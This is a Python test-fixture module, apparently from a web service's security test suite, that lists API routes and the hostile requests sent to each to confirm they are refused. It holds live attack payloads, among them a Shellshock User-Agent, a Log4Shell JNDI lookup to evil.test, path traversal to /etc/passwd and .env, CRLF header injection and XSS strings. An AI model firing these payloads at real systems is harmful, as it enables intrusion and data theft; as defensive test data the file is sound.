"""The entry points, and everything hostile that can be sent to each of them."""

from __future__ import annotations

import json
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING

from local.stack.settings import ROOT
from tests.hostile import bodies, retries, tasks, transports
from tests.hostile.row import (
    INVALID,
    JSON_TYPE,
    MALFORMED,
    NO_METHOD,
    NO_TOKEN,
    NOBODY_HAS,
    NOT_FOUND,
    TOO_LARGE,
    Row,
    Transport,
)

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.hostile.row import Headers

WORKFLOW = json.loads((ROOT / "infra/workflow.json").read_text())["id"]
ONE_MEGABYTE = b"x" * 1_000_000


@dataclass(frozen=True)
class Entry:
    """A route of one of the functions, with a request in the right form that is still refused (`refused`)."""

    name: str
    function: str
    method: str
    path: str
    refused: Row
    own: tuple[Row, ...] = ()
    reads_body: bool = False

    def rows(self, tokens: list[str]) -> list[Row]:
        """Every hostile request that an HTTP client could send; `tokens` are the names of those that are not valid."""
        return [
            self.refused,
            *(replace(self.refused, name=f"a token: {name}", code=NO_TOKEN, token=name) for name in tokens),
            *(self._with(f"a header: {name}", headers) for name, headers in HEADERS.items()),
            *(Row(f"a header: {name}", MALFORMED, headers=headers) for name, headers in REFUSED_HEADERS.items()),
            *self._methods(),
            *(Row(f"a path: {path[:120]}", NOT_FOUND, path=path) for path in self._paths()),
            *self._sizes(),
            *self.own,
        ]

    def transports(self) -> list[Transport]:
        """Everything that no client would send."""
        torn = (one if self.reads_body else replace(one, code=self.refused.code) for one in transports.TORN)
        return [*transports.TRANSPORTS, *transports.ELSEWHERE, *torn]

    def _with(self, name: str, headers: Headers) -> Row:
        return replace(self.refused, name=name, headers=self.refused.headers + headers)

    def _methods(self) -> Iterator[Row]:
        taken = {"GET", "HEAD"} if self.method == "GET" else {self.method}
        for method in sorted({"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "CONNECT"} - taken):
            yield Row(f"a method: {method}", NO_METHOD, method=method)
        overridden = (("X-HTTP-Method-Override", "DELETE"), ("X-HTTP-Method", "PUT"), ("X-Method-Override", "PATCH"))
        yield self._with("a method in a header", overridden)

    def _paths(self) -> Iterator[str]:
        path = self.path
        yield from (f"{path}x/", f"/v1{path}", f"{path}%00", f"{path}%20", f"{path};a=b", f"{path}x", f"{path}.json")
        yield from (f"{path}/..", f"/.{path}", f"/%2e%2e{path}", f"{path}%2fx", f"{path}%ff%fe", f"{path}/%c0%ae")
        yield from ELSEWHERE
        for odd in ("1", "*", "..", "%2e%2e", "null", NOBODY_HAS[:-1], f"{NOBODY_HAS}0", f"%7B{NOBODY_HAS}%7D"):
            yield path.replace(NOBODY_HAS, odd) if NOBODY_HAS in path else f"/api/executions/{odd}/x"
        yield path.upper() if path != "/" else "/API"

    def _sizes(self) -> Iterator[Row]:
        for length in ("32000001", "99999999999", str(10**30)):
            name = f"a length of {length[:12]}"
            yield Row(name, TOO_LARGE, headers=(("Content-Length", length),), content_type=JSON_TYPE)
        if not self.reads_body:
            yield replace(self.refused, name="a body that nobody wants", body=ONE_MEGABYTE)
            yield replace(self.refused, name="a body in chunks that nobody wants", body=ONE_MEGABYTE, chunked=True)
        else:
            yield Row("a megabyte of nothing", MALFORMED, ONE_MEGABYTE, JSON_TYPE)
            yield Row("a megabyte of nothing in chunks", MALFORMED, ONE_MEGABYTE, JSON_TYPE, chunked=True)


#: Paths that lead nowhere, whatever the entry point.
ELSEWHERE = (
    *("/api", "/api/", "/admin", "/.env", "/.git/config", "/%3Cscript%3Ealert(1)%3C/script%3E", "/_ah/warmup"),
    *("/metrics", "/" + "a" * 7000, "/" + "a/" * 2000, "/api/executions/..%2f..%2fetc%2fpasswd"),
)

#: By what is odd about them: none changes what is answered.
HEADERS: dict[str, Headers] = {
    "a request id with a line end": (("X-Request-Id", "a%0d%0aSet-Cookie: b=c"),),
    "a request id of eight thousand letters": (("X-Request-Id", "a" * 8000),),
    "a request id beyond ASCII": (("X-Request-Id", "\xff\xfe"),),
    "two request ids": (("X-Request-Id", "a"), ("X-Request-Id", "b")),
    "a range": (("Range", "bytes=0-0"),),
    "a thousand ranges": (("Range", "bytes=" + ",".join(f"{n}-{n}" for n in range(1000))),),
    "a range that ends before it begins": (("Range", "bytes=9-1"), ("If-Range", '"x"')),
    "an expectation": (("Expect", "100-continue"),),
    "a validator for all": (("If-None-Match", "*"),),
    "validators without an end": (("If-None-Match", '"' * 3000 + "W/" * 1000),),
    "two thousand validators": (("If-None-Match", '"a",' * 1800),),
    "a validator beyond ASCII": (("If-None-Match", '"\xe9\xff"'),),
    "a match": (("If-Match", '"a"'), ("If-Unmodified-Since", "Thu, 01 Jan 1970 00:00:00 GMT")),
    "a time that is none": (("If-Modified-Since", "the day before yesterday"), ("Date", "99999999999999")),
    "what is accepted, oddly": (
        ("Accept", "*/*;q=x, ;;;,,, image/*"),
        ("Accept-Language", "*;q=-1"),
        ("Accept-Charset", "x"),
    ),
    "encodings that nobody has": (("Accept-Encoding", "zip-bomb;q=1.0, *;q=0"),),
    "another origin": (("Origin", "https://evil.test"), ("Referer", "https://evil.test/a")),
    "an origin of null": (("Origin", "null"), ("Sec-Fetch-Site", "cross-site")),
    "two origins": (("Origin", "https://a.test"), ("Origin", "https://b.test")),
    "four thousand letters of cookies": (("Cookie", "a=b; " * 800),),
    "a cookie of control": (("Cookie", 'a="\\000\\377"; =; ;;'),),
    "another host": (
        ("X-Forwarded-Host", "evil.test"),
        ("X-Forwarded-Proto", "gopher"),
        ("Forwarded", "for=1;host=evil"),
    ),
    "another address": (("X-Forwarded-For", "127.0.0.1, ::1, <script>"), ("X-Real-IP", "127.0.0.1")),
    "another path": (("X-Original-URL", "/admin"), ("X-Rewrite-URL", "/admin")),
    "an upgrade": (("Upgrade", "websocket"), ("Sec-WebSocket-Key", "x"), ("Sec-WebSocket-Version", "13")),
    "an upgrade to HTTP/2": (("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__")),
    "trailers": (("TE", "trailers, deflate;q=0.5"), ("Trailer", "Authorization")),
    "a trace that is none": (("X-Cloud-Trace-Context", "../../x;o=" + "9" * 1000), ("traceparent", "00-xyz-1-1")),
    "a shell": (("User-Agent", "() { :; }; /bin/id"), ("X-Api-Version", "${jndi:ldap://evil.test/a}")),
    "a template": (("User-Agent", "{{7*7}}${7*7}<%= 7*7 %>"), ("From", "a@b\t<c>")),
    "ninety headers": tuple((f"X-A{number}", "b") for number in range(90)),
    "a name for a file": (("Content-Disposition", "attachment; filename=../../x"), ("Content-Location", "/x")),
    "where an application begins": (("SCRIPT_NAME", "/elsewhere"), ("PATH_INFO", "/elsewhere")),
    "an upgrade to two protocols": (("Connection", "close, Upgrade"), ("Upgrade", "websocket, h2c")),
    "a host of two words": (("Host", "function test"),),
    "a host of no letters": (("Host", ""),),
    "a host beyond ASCII": (("Host", "f\xfc\xff.test"),),
    "half an address for a host": (("Host", "[::1"),),
    "a host with two ports": (("Host", "function.test:80:90"),),
    "a host with a port that no machine has": (("Host", "function.test:99999"),),
    "a host with a path": (("Host", "evil.test/a?b#c"),),
}

#: What the framework refuses before any code of the functions has seen it.
REFUSED_HEADERS: dict[str, Headers] = {
    "an upgrade to WebSocket": (("Connection", "Upgrade, close"), ("Upgrade", "websocket")),
    "an upgrade to WebSocket among others": (("Connection", "keep-alive, uPgRaDe, close"), ("Upgrade", "WebSocket")),
    "a host of dots": (("Host", "..."),),
    "a host with an empty part": (("Host", "a..b.test"),),
    "a host of five thousand letters": (("Host", "a" * 5000),),
    "a host with a part of sixty-four letters": (("Host", "a" * 64 + ".test"),),
}


_EXECUTION = f"/api/executions/{NOBODY_HAS}"
_HONEST = "honest, but for what it asks for"
_NOBODYS = Row(_HONEST, NOT_FOUND)
_NO_QUERY = retries.queries(retries.NONE)

ENTRIES = [
    Entry(
        name="execute",
        function="submit",
        method="POST",
        path=f"/api/workflows/{WORKFLOW}/execute",
        refused=Row(_HONEST, INVALID, b"{}", JSON_TYPE),
        own=(*bodies.EXECUTE, *_NO_QUERY),
        reads_body=True,
    ),
    Entry("cancel", "submit", "POST", f"{_EXECUTION}/cancel", _NOBODYS, own=_NO_QUERY),
    Entry(
        name="retry",
        function="submit",
        method="POST",
        path=f"{_EXECUTION}/retry",
        refused=_NOBODYS,
        own=(*retries.RETRIES, *_NO_QUERY),
        reads_body=True,
    ),
    Entry("show", "status", "GET", _EXECUTION, _NOBODYS, own=retries.queries(retries.SHOWN)),
    Entry(
        name="list",
        function="status",
        method="GET",
        path="/api/executions",
        refused=Row(_HONEST, INVALID, query="limit=0"),
        own=retries.queries(retries.LISTED),
    ),
    Entry("results", "status", "GET", f"{_EXECUTION}/results.jsonl", _NOBODYS, own=_NO_QUERY),
    Entry("workflow", "status", "GET", f"/api/workflows/{NOBODY_HAS}", _NOBODYS, own=_NO_QUERY),
    Entry(
        name="generate",
        function="generate",
        method="POST",
        path="/",
        refused=Row(_HONEST, MALFORMED, b"{}", JSON_TYPE),
        own=tuple(tasks.TASKS),
        reads_body=True,
    ),
]
